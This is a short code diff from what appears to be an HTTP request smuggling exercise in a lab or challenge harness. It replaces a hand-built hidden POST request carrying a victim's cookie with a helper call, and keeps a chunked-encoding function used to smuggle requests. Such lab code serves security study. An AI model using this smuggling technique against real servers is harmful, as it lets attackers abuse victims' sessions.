@@ -8,16 +8,7 @@ const battle = await Battle.on("smuggling", "c06");
 const { victim, stack } = battle;
 const { host } = victim.client;
 
-const hidden = [
-  `POST ${victim.path}/start HTTP/1.1`,
-  `Host: ${host}`,
-  `Origin: ${stack.appOrigin}`,
-  `Cookie: ${battle.cookie(victim)}`,
-  "Content-Length: 0",
-  "Connection: close",
-  "",
-  "",
-].join("\r\n");
+const hidden = battle.start([`Host: ${host}`]);
 const chunk = (text: string): string => `${Buffer.byteLength(text).toString(16)}\r\n${text}\r\n`;
 const END = "0\r\n\r\n";
 
